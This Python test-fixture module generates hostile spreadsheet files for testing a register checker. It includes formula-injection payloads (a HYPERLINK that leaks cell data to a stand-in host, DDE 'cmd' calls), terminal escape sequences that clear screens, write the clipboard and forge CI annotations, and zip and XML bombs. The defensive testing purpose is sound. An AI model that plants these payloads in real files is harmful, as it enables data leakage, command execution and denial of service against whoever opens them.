"""Hostile and careless register files, generated: the command's tests and the page's share them.

Each function makes one class of file an attacker or a careless hand produces:
formulas in text, amplified shared strings, zip bombs, control characters,
20 000 columns, deeply nested XML. Workbooks are written as bare zips, part by
part, so a test can make what no spreadsheet program would save.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator

from checker_files import csv_bytes, repair_rows, xlsx_bytes

#: Texts that a spreadsheet program would run as formulas (and one that only looks like it).
FORMULAS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]
#: Control characters from Word, terminals and worse: VT, ESC sequences, BEL, a CR that overwrites.
CONTROLS = [
    "第一行\x0b第二行",
    "\x1b[2J\x1b[H清屏",
    "\x1b]52;c;Y2xpcGJvYXJk\x07剪贴板",
    "进度\r::error::伪造的注释",
    "响铃\x07\x08退格",
]

_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
    "</Types>"
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>"
)
_WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
    "</Relationships>"
)
_SHEET_HEAD = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)
_SHEET_TAIL = "</sheetData></worksheet>"


def bare_xlsx(sheet: Iterator[bytes], strings: list[str]) -> bytes:
    """An XLSX of one sheet streamed from ``sheet`` (its XML in chunks) and its shared strings."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("_rels/.rels", _RELS)
        archive.writestr("xl/workbook.xml", _WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
        items = "".join(f"<si><t>{s}</t></si>" for s in strings)
        archive.writestr(
            "xl/sharedStrings.xml",
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            f"{items}</sst>",
        )
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as stream:
            stream.write(_SHEET_HEAD.encode())
            for chunk in sheet:
                stream.write(chunk)
            stream.write(_SHEET_TAIL.encode())
    return out.getvalue()


def amplified_shared_string(cells: int = 200_000, length: int = 30_000) -> bytes:
    """One long shared string used by every cell: a few hundred KB that expand to gigabytes."""

    def rows() -> Iterator[bytes]:
        for start in range(0, cells, 10_000):
            yield "".join(
                f'<row r="{r}"><c r="A{r}" t="s"><v>0</v></c></row>'
                for r in range(start + 1, min(start + 10_000, cells) + 1)
            ).encode()

    # a text that does not compress to nothing (the ratio check alone would refuse it)
    text = "".join(chr(0x4E00 + (i * 7919) % 20000) for i in range(length))
    return bare_xlsx(rows(), [text])


def spaces_bomb(megabytes: int = 300) -> bytes:
    """A sheet holding hundreds of MB of spaces in one cell: a small file, a huge entry."""

    def chunks() -> Iterator[bytes]:
        yield b'<row r="1"><c r="A1" t="inlineStr"><is><t xml:space="preserve">'
        block = b" " * (1 << 20)
        for _ in range(megabytes):
            yield block
        yield b"</t></is></c></row>"

    return bare_xlsx(chunks(), [])


def ods_bomb(megabytes: int = 50) -> bytes:
    """An OpenDocument spreadsheet whose content.xml is mostly spaces."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr(
            zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.spreadsheet"
        )
        with archive.open("content.xml", "w", force_zip64=True) as stream:
            stream.write(b'<?xml version="1.0"?><office:document-content ')
            block = b" " * (1 << 20)
            for _ in range(megabytes):
                stream.write(block)
            stream.write(b"/>")
    return out.getvalue()


def _letters(index: int) -> str:
    """Column letters of a 1-based index, past Excel's XFD too."""
    out = ""
    while index:
        index, rest = divmod(index - 1, 26)
        out = chr(65 + rest) + out
    return out


def wide_workbook(columns: int = 20_000) -> bytes:
    """A register with 20 000 columns (more than Excel's 16 384): its header, then junk to the right."""
    table = repair_rows(3)

    def chunks() -> Iterator[bytes]:
        for r, row in enumerate(table, start=1):
            cells = row + [f"x{i}" for i in range(columns - len(row))]
            yield f'<row r="{r}">'.encode()
            yield "".join(
                f'<c r="{_letters(c)}{r}" t="inlineStr"><is><t>{v}</t></is></c>'
                for c, v in enumerate(cells, start=1)
            ).encode()
            yield b"</row>"

    return bare_xlsx(chunks(), [])


def deeply_nested(depth: int = 100_000) -> bytes:
    """A workbook whose one cell is a rich text nested ``depth`` elements deep."""

    def chunks() -> Iterator[bytes]:
        yield b'<row r="1"><c r="A1" t="inlineStr"><is>'
        yield b"<r>" * depth
        yield b"<t>x</t>"
        yield b"</r>" * depth
        yield b"</is></c></row>"

    return bare_xlsx(chunks(), [])


def with_column_values(values: list[str], column: str = "备注", rows: int = 10) -> list[list[str]]:
    """Repair follow-up rows (header first) with ``values`` in ``column``, one per row, cycling."""
    table = repair_rows(rows)
    at = table[0].index(column)
    for i, row in enumerate(table[1:]):
        row[at] = values[i % len(values)]
    return table


def formula_csv() -> bytes:
    """A register whose remarks are formulas, and an extra column titled like one."""
    table = with_column_values(FORMULAS, rows=len(FORMULAS))
    table[0].append('=HYPERLINK("http://example.invalid","x")')
    for row in table[1:]:
        row.append("=1+1")
    return csv_bytes(table)


def control_csv() -> bytes:
    """Control characters in free text and in a choice column (so problems carry them)."""
    table = with_column_values(CONTROLS, rows=len(CONTROLS))
    at = table[0].index("维修类别")
    for row, value in zip(table[1:], CONTROLS, strict=True):
        row[at] = value
    return csv_bytes(table)


def control_xlsx() -> bytes:
    """Control characters as Excel stores them in a workbook (``_x000B_``)."""
    table: list[list[object]] = [list(r) for r in with_column_values(["第一行_x000B_第二行"])]
    return xlsx_bytes(table)
